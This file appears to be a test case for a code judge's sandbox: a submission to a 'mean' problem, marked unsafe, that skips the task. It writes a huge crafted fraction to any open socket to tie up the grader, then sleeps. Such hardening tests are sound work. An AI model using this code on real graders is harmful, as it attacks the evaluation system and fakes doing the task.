# problem: mean
# verdict: wrong_answer | runtime_error | crashed | exited | output_limit | timed_out | out_of_memory
# why: A fraction of two numbers of sixteen million bits: reducing it takes minutes.
# unsafe: true
# limits: tight
import os
import stat
import struct
import time


def mean(numbers):
    parts = b""
    for number in (2**15_000_000 - 1, 3 * 2**14_999_000 + 2**7_000_000 + 1):
        data = number.to_bytes(number.bit_length() // 8 + 1, "little", signed=True)
        parts += b"L" + struct.pack("<I", len(data)) + data
    body = b"R" + parts
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                frame = struct.pack("<IB", len(body), ord("V")) + body
                while frame:
                    frame = frame[os.write(fd, frame):]
        except OSError:
            pass
    time.sleep(3600)
